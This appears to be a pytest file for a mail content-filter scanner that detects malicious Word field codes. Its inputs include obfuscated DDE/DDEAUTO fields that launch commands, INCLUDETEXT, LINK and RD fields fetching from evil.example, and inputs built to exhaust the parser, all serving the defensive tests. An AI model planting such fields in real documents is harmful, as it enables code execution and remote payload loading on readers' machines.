"""Fields of Word: which start a program or fetch from elsewhere, in whatever disguise."""

from __future__ import annotations

import time

import pytest

from contentfilter.content.part import Part
from contentfilter.scanners.word_fields import BEGIN, END, MAX_TEXT, SEPARATE, judge_fields
from mailbase.vocabulary import Finding, Unscanned


def judged(text: str) -> list[str]:
    marked = text.replace("{", BEGIN).replace("|", SEPARATE).replace("}", END)
    facts = list(judge_fields(Part("x", b""), marked))
    assert all(isinstance(fact, Finding | Unscanned) for fact in facts)
    return [
        fact.name if isinstance(fact, Finding) else fact.reason
        for fact in facts
        if not isinstance(fact, Part)
    ]


@pytest.mark.parametrize(
    "text",
    [
        '{DDEAUTO c:\\\\x.exe "/k"|x}',
        "{ dde excel x}",
        '{"DDE" cmd}',
        "{DDE}",
        "{HYPERLINK {DDE cmd}}",
        "{TOC|x{PAGEREF y|1}{DDE cmd|z}}",
        "{{QUOTE 68 68 69} cmd}",
        "{{QUOTE 68 68 69|result} cmd}",
        "{{QUOTE 68}{QUOTE 68}{QUOTE 69} cmd}",
        '{{ QUOTE "68" "68" "69" }cmd}',
        "{D{QUOTE 68}E cmd}",
        "{ {REF a} cmd}",
        '{"{DOCVARIABLE a}" cmd}',
        "{DDEAUTO\\\\x}",
    ],
)
def test_dde(text: str):
    assert judged(text) == ["office-dde"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "DDE outside of fields",
        "{HYPERLINK x|DDE}",
        "{HYPERLINK x|}DDE cmd",
        "{ADDED DDE x}",
        "{DDEX cmd}",
        "{IF {MERGEFIELD a} = 1 x}",
        "{= {PAGE} - 1}",
        "{REF a}",
        "}}}|||DDE",
    ],
)
def test_other_fields(text: str):
    assert judged(text) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ('{INCLUDETEXT "http://evil.example/a.docx"}', True),
        ('{INCLUDETEXT "\\\\\\\\evil.example\\\\x\\\\a.docx"}', True),
        ("{LINK htmlfile https://evil.example/a \\a}", True),
        ('{LINK Excel.Sheet.8 "C:\\\\a.xls" A1}', False),
        ("{RD mhtml:http://evil.example/x}", True),
        ("{RD C:\\\\x}", False),
        ("{HYPERLINK http://fine.example/}", False),
        ('{INCLUDEPICTURE "https://fine.example/a.png"}', False),
    ],
)
def test_what_is_fetched_from_elsewhere(text: str, found: bool):
    assert judged(text) == ["office-remote-template"] * found


def test_fields_beyond_the_bound_are_told():
    assert judged("{" * MAX_TEXT + "{DDE cmd}") == ["too-large"]


def test_citations_of_a_thesis_are_no_instructions():
    citations = "{ ADDIN ZOTERO_ITEM CSL_CITATION " + "x" * 8000 + "|[1]}"
    many = citations * (MAX_TEXT // 8000 + 1)
    assert judged(many) == []
    assert judged(many + "{DDE cmd}") == judged("{ADDIN x{DDE cmd}}") == ["office-dde"]


def test_fields_built_to_exhaust():
    started = time.process_time()
    for text in (
        "{" * 2_000_000,
        "{QUOTE 68" * 400_000,
        "{DD " * 900_000,
        '{INCLUDETEXT "' * 250_000,
        "|}" * 1_000_000,
    ):
        judged(text)
    assert time.process_time() - started < 10
